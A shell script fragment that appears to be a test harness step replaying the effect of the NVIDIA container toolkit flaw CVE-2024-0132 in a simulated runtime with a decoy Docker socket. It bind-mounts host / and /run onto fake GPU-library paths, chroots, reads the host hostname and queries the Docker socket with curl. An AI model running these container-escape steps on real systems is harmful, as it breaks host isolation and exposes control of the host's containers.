# A7 CVE-2024-0132 replay: host / and /run bind-mounted onto GPU-library paths, then used from the container
R="$H/rootfs0132"
mkdir -p "$R"/{bin,lib,lib64,usr,etc,proc,tmp,dev} "$R"/opt/nvidia/lib64/libnvidia-ml.so.1 "$R"/opt/nvidia/lib64/libnvidia-cfg.so.1
[ -S /run/simrt/docker.sock ] || { python3 "$H/decoy_sock.py" /run/simrt/docker.sock > "$H/decoy.log" 2>&1 & echo $! > "$H/decoy.pid"; }
until [ -S /run/simrt/docker.sock ]; do sleep 0.2; done
cp "$(command -v bash)" "$H/bin/nvidia-container-cli"
ctr_run simctr-infer-a7 ctr-infer --mount --propagation private -- "$H/bin/nvidia-container-cli" -c '
  R=$0
  for d in bin lib lib64 usr; do [ -d /$d ] && mount --rbind /$d $R/$d; done
  mount --rbind /    $R/opt/nvidia/lib64/libnvidia-ml.so.1      # what the TOCTOU achieves (read-only in the real bug)
  mount --rbind /run $R/opt/nvidia/lib64/libnvidia-cfg.so.1
  ln -sfn /opt/nvidia/lib64/libnvidia-ml.so.1  $R/host
  ln -sfn /opt/nvidia/lib64/libnvidia-cfg.so.1 $R/host-run
  exec chroot $R /bin/sh -c "cat /host/etc/hostname; curl -s -m 3 --unix-socket /host-run/simrt/docker.sock http://localhost/containers/json; echo"' "$R"
